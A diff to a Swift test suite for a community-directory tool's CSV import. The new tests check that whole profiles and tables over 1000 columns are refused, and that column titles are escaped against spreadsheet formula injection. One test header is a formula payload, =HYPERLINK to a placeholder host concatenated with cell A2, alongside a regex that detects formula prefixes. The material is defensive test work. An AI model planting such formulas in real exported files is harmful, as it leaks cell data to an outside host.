@@ -62,13 +62,33 @@ struct TableImportTests {
         #expect(fields[3] == "unconfirmed" && fields[6] == "02722", "\(shown)")
     }
 
-    @Test("Whole profiles are told from a table, also on standard input")
+    @Test(
+        "Whole profiles never come in as a table, whatever the file is called, and a table does on standard input"
+    )
     func profiles() async throws {
         let database = try await Scratch.like(.entraide)
-        let profile = #"{"community":"un","name":"Un","kind":"fablab"}"# + "\n"
-        let whole = try await database.output("community", "import", "--from", "auto", "-", input: profile)
-        #expect(whole.figures["added"] == "1" && whole.figures["lost"] == nil, "\(whole)")
-        #expect(try await database.output("community", "show", "un").fields.first?[3] == "active")
+        try await database.output(
+            "community", "register", "un", "--name", "Un", "--kind", "fablab", "--contact",
+            "un@exemple.example")
+        let before = try await database.trace()
+        let profile =
+            #"{"community":"un","name":"Autre","kind":"bar","contact":"x@ailleurs.example","consent":{"contact":true}}"#
+            + "\nnom;offres\n"
+        let file = try TestFolder.shared.file("annuaire.csv", "\u{FEFF}  " + profile)
+        for (tongue, words) in [
+            (Tongue.fr, "ce fichier contient des profils entiers"), (.en, "this file holds whole profiles"),
+        ] {
+            for run in [
+                try await database.run("community", "import", file, in: tongue),
+                try await database.run("community", "import", "-", "--dry-run", in: tongue, input: profile),
+            ] {
+                #expect(run.status == 65 && run.out.isEmpty, "\(run)")
+                #expect(run.err.contains(words) && run.err.contains("--from entraide"), "\(run)")
+                #expect(run.err.hasSuffix("[whole-profiles]\n"), "\(run)")
+            }
+        }
+        #expect(try await database.trace() == before)
+        #expect(try await database.sql("SELECT name FROM communities") == "Un\n")
         let table = try await database.output(
             "community", "import", "--from", "auto", "-", "--map", "needs=Cherche",
             input: "name,Cherche\nDeux,couture\n")
@@ -157,6 +177,55 @@ struct TableImportTests {
             "SELECT c.slug, s.label_fr FROM offers AS o JOIN communities AS c ON c.id = o.community_id JOIN skills AS s ON s.id = o.skill_id ORDER BY 1, 2"
         #expect(try await database.sql(offers) == (try await direct.sql(offers)))
         #expect(try await !direct.sql(offers).isEmpty)
+    }
+
+    @Test("No title is a formula in the rejects or in a kept map, and both are read back as they were")
+    func formulasInTitles() async throws {
+        let database = try await Scratch.like(.sample)
+        let folder = try TestFolder.shared.newName("rejects")
+        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
+        let titles = [
+            "nom", "=HYPERLINK(\"http://x.example/?\"&A2)", "@Besoins", "-offres", "+1,5", "'t Hooft",
+        ]
+        let header = titles.map { $0.contains("\"") ? "\"" + $0.replacing("\"", with: "\"\"") + "\"" : $0 }
+            .joined(separator: ";")
+        let file = try TestFolder.shared.file("lieux.csv", header + "\n;a;couture;soudure;1;2\n")
+        let words = [
+            "community", "import", file, "--map", "needs=@Besoins", "--map", "offers='-offres", "--rejects",
+            "\(folder)/r.csv", "--save-map", "\(folder)/map.csv",
+        ]
+        let refused = try await database.home.run(
+            words, in: .en, environment: ["ENTRAIDE_DATABASE": database.conninfo])
+        #expect(refused.status == 65 && refused.figures["refused"] == "1", "\(refused)")
+        #expect(refused.err.contains("needs = C (@Besoins)"), "\(refused)")
+        let rejects = try String(contentsOfFile: "\(folder)/r.csv", encoding: .utf8)
+        #expect(
+            rejects.hasPrefix(
+                "nom;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A2)\";'@Besoins;'-offres;+1,5;'t Hooft;"),
+            "\(rejects)")
+        let map = try String(contentsOfFile: "\(folder)/map.csv", encoding: .utf8)
+        #expect(map.contains("\r\nneeds,'@Besoins\r\noffers,'-offres\r\n"), "\(map)")
+        for text in [rejects, map] {
+            #expect(text.matches(of: #/(?:^|[;,\n]"?)(?:[=@]|[+\-][^0-9])/#).isEmpty, "\(text)")
+        }
+        let mended = try TestFolder.shared.file(
+            "mended.csv", rejects.replacing("\r\n;", with: "\r\nVoisine;"))
+        let read = try await database.output("community", "import", mended, "--map", "\(folder)/map.csv")
+        #expect(read.figures["added"] == "1" && read.err.contains("needs = C (@Besoins)"), "\(read)")
+        #expect(try await database.output("need", "list", "voisine").fields.map { $0[1] } == ["couture"])
+    }
+
+    @Test("A table of too many columns is refused in both languages")
+    func tooWide() async throws {
+        let database = try await Scratch.like(.entraide)
+        let wide = "nom" + (1...1000).map { ";c\($0)" }.joined() + "\nUn\n"
+        for (tongue, words) in [
+            (Tongue.fr, "plus de 1000 colonnes\u{202F};"), (.en, "more than 1000 columns;"),
+        ] {
+            let run = try await database.run("community", "import", "-", in: tongue, input: wide)
+            #expect(run.status == 65 && run.err.contains(words), "\(run)")
+            #expect(run.err.contains("[too-many-columns]"), "\(run)")
+        }
     }
 
     @Test("Refused rows are for their owner to read, and go where the name says, not where a link leads")
